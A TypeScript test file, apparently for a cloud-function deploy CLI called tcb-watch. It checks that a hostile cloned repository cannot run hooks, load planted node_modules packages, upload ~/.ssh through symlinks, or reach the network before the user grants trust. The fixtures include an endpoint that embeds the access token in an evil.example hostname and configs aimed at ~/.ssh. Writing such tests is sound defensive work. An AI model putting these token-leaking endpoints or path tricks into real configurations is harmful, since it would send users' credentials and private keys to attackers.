/** Opening a repository costs its reader nothing: what needs an agreement is neither run nor sent before it is given. */
import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { inside } from '../support/inside.js';
import {
  configFor,
  entry,
  makeProject,
  type Played,
  type Project,
  run,
  runEmulator,
  temporaryFolder,
  uploads,
} from '../support/rig.js';

const token = 'victim-token-51c0ffee77';

/** The program as somebody runs it who has agreed to nothing yet. */
async function stranger(): Promise<{
  readonly env: Readonly<Record<string, string>>;
  readonly home: string;
}> {
  const home = await temporaryFolder();
  return {
    home,
    env: {
      TCB_WATCH_TRUST: '',
      HOME: home,
      XDG_STATE_HOME: join(home, 'state'),
      TCB_COMPONENT_ACCESS_TOKEN: token,
      TEST_TOKEN: token,
      TCB_WATCH_TIME_SCALE: '0.02',
    },
  };
}

/** Each command once, as somebody looks around in a clone. */
const looks: readonly (readonly string[])[] = [
  ['doctor'],
  ['doctor', '--json'],
  ['status'],
  ['status', '--json'],
  ['status', '--files', 'pay'],
  ['--dry-run'],
  ['push', '--dry-run', '--json'],
  ['init', '--yes'],
  ['trust'],
  ['trust', '--list'],
];
const acts: readonly (readonly string[])[] = [
  ['push'],
  ['push', '--json', '--yes'],
  ['watch', '--json'],
  ['watch', '--plain', '--yes'],
  ['invoke', 'pay', '-e', 'dev'],
];

async function runAll(project: Project, env: Readonly<Record<string, string>>): Promise<Played[]> {
  return Promise.all(
    [...looks, ...acts].map(async (args) => {
      const program = inside(args, { cwd: project.folder, env, plain: true });
      const { code } = await program.exit;
      if (acts.includes(args)) expect([args, code, program.stderr()]).toEqual([args, 3, expect.any(String)]);
      return program;
    }),
  );
}

/** Files that commands of the configuration would leave behind. */
const mark = (place: string): string => `echo ran >> ${JSON.stringify(place)}`;

describe('a hostile repository, each command run once', () => {
  it('is sent nothing at its endpoint, and every refusal names it', async () => {
    const requests: string[] = [];
    const server = await listening((url, headers) => requests.push(`${url} ${JSON.stringify(headers)}`));
    const endpoint = `https://${server.host}`;
    const { env } = await stranger();
    const project = await makeProject({ pay: entry('1') }, { envs: ['dev'], endpoint });
    const programs = await runAll(project, env);
    expect(requests).toEqual([]);
    for (const program of programs.slice(looks.length)) {
      expect(program.stderr()).toContain(`sends your token and the code of your functions to ${endpoint}`);
      expect(program.stderr()).toContain('tcb-watch trust');
    }
  });

  it('runs none of its commands', async () => {
    const { env, home } = await stranger();
    const ran = join(home, 'ran');
    const project = await makeProject(
      { pay: { 'src/index.js': entry('1')['index.js'] ?? '' } },
      {
        envs: ['dev'],
        endpoint: 'http://127.0.0.1:9',
        token: { command: mark(ran) },
        hooks: { afterLive: mark(ran), onFailure: mark(ran) },
        functions: { pay: { build: { command: mark(ran), output: 'dist' } } },
      },
    );
    const programs = await runAll(project, env);
    expect(existsSync(ran)).toBe(false);
    const refused = programs.at(-1)?.stderr() ?? '';
    for (const path of ['token.command', 'hooks.afterLive', 'hooks.onFailure', 'functions.pay.build.command'])
      expect(refused).toContain(path);
  });

  it('loads no code of its own', async () => {
    const { env, home } = await stranger();
    const ran = join(home, 'ran');
    const code = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, 'ran');`;
    const project = await makeProject(
      { pay: { 'index.ts': 'export const main = async () => 1;' } },
      { envs: ['dev'], endpoint: 'emulator', notify: true, functions: { pay: { build: 'esbuild' } } },
    );
    for (const name of ['esbuild', 'toasted-notifier']) {
      await project.write(`node_modules/${name}/package.json`, `{"name":"${name}","main":"index.js"}`);
      await project.write(`node_modules/${name}/index.js`, code);
    }
    await runAll(project, env);
    expect(existsSync(ran)).toBe(false);
  });

  it('uploads no file from outside, by any way to it', async () => {
    const { env, home } = await stranger();
    await mkdir(join(home, '.ssh'), { recursive: true });
    await writeFile(join(home, '.ssh', 'index.js'), 'private key');
    const emulator = await runEmulator({ envs: ['dev'], token });
    for (const config of [
      { functionsRoot: '~' },
      { functionsRoot: '..' },
      { functionsRoot: 'linked' },
      { functions: { pay: { dir: '~/.ssh' } } },
      { functions: { pay: { dir: 'linked' } } },
    ]) {
      const project = await makeProject({ other: entry('1') }, { ...configFor(emulator), ...config });
      await symlink(join(home, '.ssh'), join(project.folder, 'linked'));
      const program = inside(['push'], { cwd: project.folder, env, plain: true });
      expect((await program.exit).code).toBe(3);
      expect(program.stderr()).toContain('uploads files from outside the project');
    }
    expect(uploads(emulator)).toBe(0);
  });

  it('gets no variable of this machine into its endpoint', async () => {
    const { env } = await stranger();
    const endpoint = 'https://${TCB_COMPONENT_ACCESS_TOKEN}.evil.example';
    const project = await makeProject({ pay: entry('1') }, { envs: ['dev'], endpoint });
    const program = run(['push', '--trust'], { cwd: project.folder, env, plain: true });
    expect((await program.exit).code).toBe(3);
    expect(program.stderr()).toContain('endpoint: expected an address without');
    expect(program.stdout() + program.stderr()).not.toContain(token);
  });
});

describe('what is agreed to', () => {
  it('goes on once it is given for a run, and is not remembered', async () => {
    const { env, home } = await stranger();
    const ran = join(home, 'ran');
    const emulator = await runEmulator({ envs: ['dev'], token });
    const config = { ...configFor(emulator), hooks: { afterLive: mark(ran) } };
    const project = await makeProject({ pay: entry('1') }, config);
    const push = (...args: string[]) => run(['push', ...args], { cwd: project.folder, env, plain: true });
    expect((await push('--trust').exit).code).toBe(0);
    expect(existsSync(ran)).toBe(true);
    expect((await push().exit).code).toBe(3);
  });

  it('does not come by --yes', async () => {
    const { env } = await stranger();
    const emulator = await runEmulator({ envs: ['dev'], token });
    const config = { ...configFor(emulator), hooks: { afterLive: 'true' } };
    const project = await makeProject({ pay: entry('1') }, config);
    expect((await run(['push', '--yes'], { cwd: project.folder, env, plain: true }).exit).code).toBe(3);
    expect(uploads(emulator)).toBe(0);
  });

  it('is asked for again, while it watches, where the configuration asks for more', async () => {
    const { env, home } = await stranger();
    const ran = join(home, 'ran');
    const emulator = await runEmulator({ envs: ['dev'], token });
    const config = { ...configFor(emulator), hooks: { onFailure: 'true' } };
    const project = await makeProject({ pay: entry('1') }, config);
    const program = run(['watch', '--json', '--trust'], { cwd: project.folder, env });
    await program.waitFor((seen) => seen.event === 'watching');
    await program.waitForLive([['pay', 'dev']]);
    await project.configure({ ...config, hooks: { onFailure: 'true', afterLive: mark(ran) } });
    const invalid = await program.waitFor((seen) => seen.event === 'config');
    expect(invalid).toMatchObject({ state: 'invalid', problems: [{ path: 'hooks.afterLive' }] });
    const from = program.events.length;
    await project.write('functions/pay/index.js', entry('2')['index.js'] ?? '');
    await program.waitForLive([['pay', 'dev']], from);
    expect(await program.stop()).toBe(0);
    expect(existsSync(ran)).toBe(false);
  });

  it('never needs to be asked for by a plain project', async () => {
    const { env } = await stranger();
    const emulator = await runEmulator({ envs: ['dev'], token });
    const project = await makeProject({ pay: entry('1') }, configFor(emulator));
    const program = run(['push'], { cwd: project.folder, env, plain: true });
    expect((await program.exit).code).toBe(0);
    expect(program.stderr()).toBe('');
    expect(existsSync(join(env['XDG_STATE_HOME'] ?? '', 'tcb-watch'))).toBe(false);
  });
});

/** A server whose name is not loopback to us, and that counts what reaches it. */
async function listening(
  onRequest: (url: string | undefined, headers: object) => void,
): Promise<{ readonly host: string }> {
  const server: Server = createServer((request, response) => {
    onRequest(request.url, request.headers);
    response.end('{}');
  });
  server.on('connection', () => onRequest('connection', {}));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  // With the dot it leads here and counts as any other host.
  return { host: `localhost.:${port}` };
}
